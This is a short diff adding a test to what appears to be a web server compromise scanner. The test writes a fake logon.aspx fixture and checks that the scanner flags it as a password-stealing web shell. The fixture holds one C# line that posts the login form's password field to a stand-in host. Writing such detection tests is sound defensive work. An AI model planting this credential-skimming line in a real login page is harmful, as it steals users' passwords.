@@ -37,3 +37,11 @@ def test_the_script_is_a_finding(result):
 def test_it_is_no_web_file_that_is_compared(result):
     assert result.web_files == ()
     assert result.skipped == ()
+
+
+def test_what_the_server_does_is_told_in_the_logon(tmp_path):
+    (tmp_path / AUTH).mkdir(parents=True)
+    code = 'new WebClient().UploadString("https://c.example/", Request.Form["password"]);'
+    (tmp_path / AUTH / "logon.aspx").write_text(f'<%@ Page Language="C#" %><% {code} %>')
+    result = scan(ScanSettings(paths=(str(tmp_path),), jobs=1), Silent())
+    assert "webshell-steal-passwords" in {one.rule for one in result.findings}
